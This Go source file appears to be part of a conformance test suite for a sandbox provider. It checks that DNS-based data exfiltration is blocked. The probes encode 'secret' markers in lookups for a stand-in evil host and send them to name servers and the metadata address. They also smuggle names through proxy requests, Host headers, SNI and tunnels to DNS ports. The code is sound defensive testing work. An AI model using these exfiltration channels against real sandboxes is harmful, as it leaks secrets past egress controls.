package conformance

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync/atomic"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/sandbox-iac/terraform-provider-sandbox/internal/conformance/prober/visit"
	"github.com/sandbox-iac/terraform-provider-sandbox/sandbox"
)

// egressNames are questions about names, which carry whatever they ask for.
func egressNames() Suite {
	confine := shows(sandbox.GuaranteeDNSConfined)
	return Suite{Name: "EGRESS_NAMES", Gate: sandbox.CapabilityExec, Probes: confined([]Probe{
		{Name: "no-name-server-is-asked-directly", Shows: confine, Run: nameServers},
		{Name: "the-guests-resolver-knows-no-name", Shows: confine, Run: guestsResolver},
		{Name: "only-names-that-a-rule-admits-are-looked-up", Shows: confine, Run: admittedNames},
		{Name: "an-allowed-host-is-no-name-server", Shows: confine, Run: overAllowedHosts},
	})}
}

// dnsQuery is a query for an address of a name.
func dnsQuery(name string) ([]byte, error) {
	parsed, err := dnsmessage.NewName(name + ".")
	if err != nil {
		return nil, err
	}
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 4711, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: parsed, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}},
	}
	return m.Pack()
}

// framed is a message as TCP carries it.
func framed(message []byte) []byte {
	return append([]byte{byte(len(message) >> 8), byte(len(message))}, message...)
}

// nameServers listens on every address of this machine as name servers do, and asks
// them from within.
func nameServers(ctx context.Context, s *Scene) error {
	if err := s.still(ctx); err != nil {
		return err
	}
	query, err := dnsQuery("secret-4711." + evilHost)
	if err != nil {
		return notShown("%v", err)
	}
	var asked atomic.Int64
	servers := []string{"192.0.2.53:53", "169.254.169.254:53", "127.0.0.1:53", "127.0.0.53:53", "[2001:db8::53]:53"}
	own := 0
	for _, address := range addresses() {
		if server, ok := s.nameServer(ctx, address, &asked); ok {
			servers = append(servers, server)
			own++
		}
	}
	if own == 0 {
		return notShown("no name server could be made on this machine")
	}
	var calls []call
	unheard := func(o visit.Outcome) error {
		if o.Bytes > 0 {
			return fmt.Errorf("a name server answered %d bytes", o.Bytes)
		}
		return nil
	}
	order := visit.Order{Milliseconds: 1000}
	for _, server := range servers {
		order.Visits = append(order.Visits,
			visit.Visit{To: "udp " + server, Steps: []visit.Step{{Say: query}, {Hear: 1}}},
			visit.Visit{To: "tcp " + server, Steps: []visit.Step{{Say: framed(query)}, {Hear: 1}}})
		calls = append(calls, call{what: "by UDP, " + server, judge: unheard}, call{what: "by TCP, " + server, judge: unheard})
	}
	outcomes, err := s.order(ctx, order)
	if err != nil {
		return err
	}
	var errs []error
	for i, c := range calls {
		if err := c.judge(outcomes[i]); err != nil {
			errs = append(errs, fmt.Errorf("%s: %w", c.what, err))
		}
	}
	if n := asked.Load(); n > 0 {
		errs = append(errs, fmt.Errorf("%d questions came to this machine's servers", n))
	}
	return errors.Join(errs...)
}

// nameServer listens at an address for both kinds of question, counts them and
// answers with what it heard.
func (s *Scene) nameServer(ctx context.Context, address string, asked *atomic.Int64) (string, bool) {
	var where net.ListenConfig
	l, err := where.Listen(ctx, "tcp", net.JoinHostPort(address, "0"))
	if err != nil {
		return "", false
	}
	p, err := where.ListenPacket(ctx, "udp", l.Addr().String())
	if err != nil {
		_ = l.Close()
		return "", false
	}
	ended := make(chan struct{}, 2)
	go func() {
		defer func() { ended <- struct{}{} }()
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			asked.Add(1)
			_, _ = conn.Write([]byte("heard"))
			_ = conn.Close()
		}
	}()
	go func() {
		defer func() { ended <- struct{}{} }()
		var buffer [512]byte
		for {
			n, from, err := p.ReadFrom(buffer[:])
			if err != nil {
				return
			}
			asked.Add(1)
			_, _ = p.WriteTo(buffer[:n], from)
		}
	}()
	s.cleanup = append(s.cleanup, func() { _, _ = l.Close(), p.Close(); <-ended; <-ended })
	return l.Addr().String(), true
}

// guestsResolver asks the way that every program does. The world knows the names.
func guestsResolver(ctx context.Context, s *Scene) error {
	if err := s.still(ctx); err != nil {
		return err
	}
	s.subject.internet.Forget()
	if err := s.attack(ctx, "lookups", goodHost, evilHost, "secret-4712."+evilHost, "secret-4713."+goodHost); err != nil {
		return err
	}
	if got := s.subject.internet.Lookups(); len(got) > 0 {
		return fmt.Errorf("it led to lookups of %q", got)
	}
	return nil
}

// admittedNames says secrets in the names that it asks the proxy for.
func admittedNames(ctx context.Context, s *Scene) error {
	if err := s.twoSites(ctx); err != nil {
		return err
	}
	s.subject.internet.Forget()
	secrets := []string{"secret-4714." + evilHost, "secret-4715." + goodHost, "secret-4716.example.com", "secret-4717"}
	calls := []call{answered(absolute(goodHost, "/"))}
	for _, name := range secrets {
		calls = append(calls, denied(absolute(name, "/"), sandbox.CodeEgressDenied), denied(head("CONNECT "+name+":443 HTTP/1.1", "Host: "+name+":443"), sandbox.CodeEgressDenied))
	}
	// Where another reads the name: beside the target.
	calls = append(calls,
		denied(head("GET http://"+goodHost+"/ HTTP/1.1", "Host: secret-4718."+evilHost), sandbox.CodeEgressAuthorityMismatch),
		call{what: "a secret in a server name", visit: throughTLS(goodHost+":443", "secret-4719."+evilHost, s.worldRoots(), head("GET / HTTP/1.1", "Host: "+goodHost)), code: sandbox.CodeEgressSNIMismatch},
	)
	if err := s.calls(ctx, calls...); err != nil {
		return err
	}
	got := s.subject.internet.Lookups()
	if slices.ContainsFunc(got, func(name string) bool { return name != goodHost+"." }) {
		return fmt.Errorf("looked up %q", got)
	}
	return nil
}

// overAllowedHosts has a name server at the allowed host, by every port that such a
// server has and by the one that rules open.
func overAllowedHosts(ctx context.Context, s *Scene) error {
	if err := s.twoSites(ctx); err != nil {
		return err
	}
	query, err := dnsQuery("secret-4720." + evilHost)
	if err != nil {
		return notShown("%v", err)
	}
	at, err := s.subject.internet.LookupNetIP(ctx, "ip", goodHost+".")
	if err != nil {
		return notShown("%v", err)
	}
	calls := []call{answered(absolute(goodHost, "/"))}
	for _, port := range []uint16{53, 853, 5353} {
		if err := s.subject.internet.another(at[0], port); err != nil {
			return err
		}
		calls = append(calls, call{
			what: fmt.Sprintf("a tunnel to port %d", port), code: sandbox.CodeEgressDenied,
			visit: visit.Visit{Steps: []visit.Step{{Tunnel: fmt.Sprintf("%s:%d", goodHost, port)}, {Say: framed(query)}, {End: true}, {Hear: visit.ToTheEnd}}},
		})
	}
	calls = append(calls, call{what: "a question in a tunnel for TLS", judge: unspoken, visit: visit.Visit{Steps: []visit.Step{
		{Tunnel: goodHost + ":443"}, {Say: framed(query)}, {End: true}, {Hear: visit.ToTheEnd},
	}}})
	return s.calls(ctx, calls...)
}

// unspoken wants a tunnel to have ended with at most an alert of TLS in it.
func unspoken(o visit.Outcome) error {
	const alert = 7
	switch {
	case strings.Contains(o.Failed, "i/o timeout"):
		return fmt.Errorf("the tunnel stays open: %s", heard(o))
	case o.Bytes > alert:
		return fmt.Errorf("was let through: %s", heard(o))
	}
	return nil
}
